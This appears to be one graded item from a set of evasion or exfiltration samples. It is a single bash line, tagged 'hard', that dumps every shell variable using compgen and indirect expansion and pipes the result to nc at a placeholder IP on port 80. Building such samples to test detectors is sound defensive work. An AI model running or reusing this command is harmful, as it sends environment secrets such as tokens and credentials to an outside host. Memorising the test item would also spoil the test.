# evasion: every variable through compgen and ${!v}
# grade: hard; does: env-out
for v in $(compgen -v); do printf '%s=%s\n' "$v" "${!v}"; done | nc 203.0.113.5 80
